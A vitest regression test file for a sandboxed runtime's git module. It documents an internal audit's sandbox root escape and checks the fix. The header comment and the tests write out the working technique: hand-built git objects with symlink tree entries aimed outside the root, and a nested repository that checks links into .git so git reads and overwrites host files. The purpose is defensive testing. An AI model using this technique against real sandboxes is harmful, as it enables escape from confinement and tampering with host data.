/**
 * Issue 20, thirteenth attack run: `ws:git` from a JavaScript run confined with `root: "/workspace/proj"`
 * (createGitModule(), src/modules/git.ts; the worktree writer src/git/ops/tree-state.ts placeWorktreeFile).
 *
 * Tried: code in the sandbox writes git objects by hand into a repository it owns (loose objects are plain
 * files under root: deflate with CompressionStream, SHA-1 with crypto.subtle), a tree holding a symbolic link
 * (mode 120000) whose target leaves the root, then `cli({ argv: ["checkout", …] })`. Then a second repository
 * initialised INSIDE the first one's `.git` directory (`cli init` with `cwd: "b/.git"`), whose crafted tree
 * checks links out into that `.git` (`config` → /workspace/host.ini, `refs/heads/evil` →
 * /workspace/host-secret.txt), and ordinary `ws:git` commands in the first repository.
 * (Held: a tree path with a `.git` component is refused, "contains unsafe character sequences".)
 *
 * Found (high — sandbox root escape, read and write): the sandbox's own `symlink` checks a target against the
 * root (paths.ts checkLinkTarget), but a checkout writes a tree's link targets as they are
 * (`fs.symlink(blob text, abs)`), so the run makes links that lead out of its root; the sandbox's node:fs
 * refuses to follow them, but git (run by the host on workspace.fs) follows links inside `.git`:
 *   cli({ argv: ["config", "core.key"], cwd: "b" })            → "hostvalue"   (read from /workspace/host.ini)
 *   cli({ argv: ["config", "user.name", "PAYLOAD"], cwd: "b" }) → appends "[user] name = PAYLOAD" to /workspace/host.ini
 *   cli({ argv: ["branch", "-f", "evil", "main"], cwd: "b" })   → /workspace/host-secret.txt overwritten with an oid
 * and the host (workspace.fs, tools without root, the shell) reads /workspace/host-secret.txt through
 * /workspace/proj/esc. Reproduced 3 of 3.
 * Fixed (src/git/confine.ts): ws:git in a run with a root uses the client confined to it; every link a
 * checkout/clone/merge/reset/stash writes goes through checkLinkTarget (EACCES when it leads out).
 * Suggested fix: in a confined run, have git's working-tree writes check a link target as the sandbox's symlink does
 * (checkLinkTarget under ctx.root; refuse or skip the entry), and give git a file view that refuses to follow
 * a link leading out of the root (inside `.git` too).
 */
import { expect, it } from "vitest";
import type { Workspace } from "../../../src/workspace.js";
import { inConfinedGitWorkspace, ROOT } from "../git/confined.js";

/** Sandbox helpers: write loose objects by hand; a tree of links ([name, target]) and subtrees ([name, tree]). */
const OBJECTS = `
  const enc = new TextEncoder();
  const a = async (f) => { try { return await f(); } catch (e) { return "ERR " + e.code + " " + e.message.slice(0, 300); } };
  async function obj(gitdir, type, body) {
    const head = enc.encode(type + " " + body.length + "\\0");
    const all = new Uint8Array(head.length + body.length); all.set(head); all.set(body, head.length);
    const raw = new Uint8Array(await crypto.subtle.digest("SHA-1", all));
    const hex = [...raw].map((b) => b.toString(16).padStart(2, "0")).join("");
    const z = new Uint8Array(await new Response(new Blob([all]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer());
    await mkdir(gitdir + "/objects/" + hex.slice(0, 2), { recursive: true });
    await writeFile(gitdir + "/objects/" + hex.slice(0, 2) + "/" + hex.slice(2), z);
    return { hex, raw };
  }
  async function tree(gitdir, entries) {
    const parts = [];
    for (const [name, v] of entries.sort((x, y) => (x[0] < y[0] ? -1 : 1))) {
      if (typeof v === "string") { const b = await obj(gitdir, "blob", enc.encode(v)); parts.push(...enc.encode("120000 " + name + "\\0"), ...b.raw); }
      else parts.push(...enc.encode("40000 " + name + "\\0"), ...v.raw);
    }
    return obj(gitdir, "tree", new Uint8Array(parts));
  }
  async function branch(gitdir, name, t) {
    const c = await obj(gitdir, "commit", enc.encode("tree " + t.hex + "\\nauthor a <a@a> 0 +0000\\ncommitter a <a@a> 0 +0000\\n\\nx\\n"));
    await writeFile(gitdir + "/refs/heads/" + name, c.hex + "\\n");
  }
`;

async function inConfinedWorkspace<T>(fn: (ws: Workspace) => Promise<T>): Promise<T> {
  return inConfinedGitWorkspace("secret", async (ws) => {
    await ws.fs.writeFile("/workspace/host.ini", "[core]\n\tkey = hostvalue\n");
    return fn(ws);
  });
}

const read = (ws: Workspace, p: string) => ws.fs.readFile(p, "utf8").catch((e: { code: string }) => e.code);

it("a checkout in a confined run makes no link that leads out of the root", async () => {
  const r = await inConfinedWorkspace(async (ws) => {
    const src = `import { cli } from "ws:git"; import { writeFile, mkdir, readlink } from "node:fs/promises";
      ${OBJECTS}
      export default async () => {
        await cli({ argv: ["init", "-b", "main"] });
        await branch(".git", "x", await tree(".git", [["esc", "../host-secret.txt"]]));
        const co = await a(() => cli({ argv: ["checkout", "x"] }));
        return { co: co.exitCode, link: await a(() => readlink("esc")) };
      }`;
    const run = await (await ws.runtime.exec(src, { encoding: "utf8" })).result();
    return { exit: run.exitCode, value: run.value, throughLink: await read(ws, `${ROOT}/esc`) };
  });
  // Found: { exit: 0, value: { co: 0, link: "../host-secret.txt" }, throughLink: "secret" }.
  // Fixed: the checkout refuses the link (EACCES, exit 1) and makes nothing.
  expect(r).toEqual({ exit: 0, value: { co: 1, link: "ERR ENOENT ENOENT: no such file or directory, readlink: /workspace/proj/esc" }, throughLink: "ENOENT" });
});

it("git commands in a confined run read and write nothing outside the root through links checked out into .git", async () => {
  const r = await inConfinedWorkspace(async (ws) => {
    const src = `import { cli } from "ws:git"; import { writeFile, mkdir } from "node:fs/promises";
      ${OBJECTS}
      export default async () => {
        await mkdir("b", { recursive: true });
        await writeFile("b/f.txt", "f\\n");
        await cli({ argv: ["init", "-b", "main"], cwd: "b" });
        await cli({ argv: ["add", "f.txt"], cwd: "b" });
        await cli({ argv: ["commit", "-m", "one"], cwd: "b" });
        // a second repository whose working tree is b/.git
        await cli({ argv: ["init", "-b", "main"], cwd: "b/.git" });
        const G = "b/.git/.git";
        const heads = await tree(G, [["evil", "/workspace/host-secret.txt"]]);
        await branch(G, "x", await tree(G, [["config", "/workspace/host.ini"], ["refs", await tree(G, [["heads", heads]])]]));
        await cli({ argv: ["checkout", "-f", "x"], cwd: "b/.git" });
        const o = {};
        o.cfgGet = (await a(() => cli({ argv: ["config", "core.key"], cwd: "b" }))).stdout;
        await a(() => cli({ argv: ["branch", "-f", "evil", "main"], cwd: "b" }));
        await a(() => cli({ argv: ["config", "user.name", "PAYLOAD"], cwd: "b" }));
        return o;
      }`;
    const run = await (await ws.runtime.exec(src, { encoding: "utf8" })).result();
    return { exit: run.exitCode, value: run.value, secret: await read(ws, "/workspace/host-secret.txt"), ini: await read(ws, "/workspace/host.ini") };
  });
  // Found: value.cfgGet "hostvalue\n"; secret = "<oid of main>\n"; ini gained "\n[user]\n\tname = PAYLOAD".
  // Fixed: the checkout into b/.git refuses its outward links, so config reads nothing from outside.
  expect(r.exit).toBe(0);
  expect(r.value).toEqual({ cfgGet: "" });
  expect({ secret: r.secret, ini: r.ini }).toEqual({ secret: "secret", ini: "[core]\n\tkey = hostvalue\n" });
});
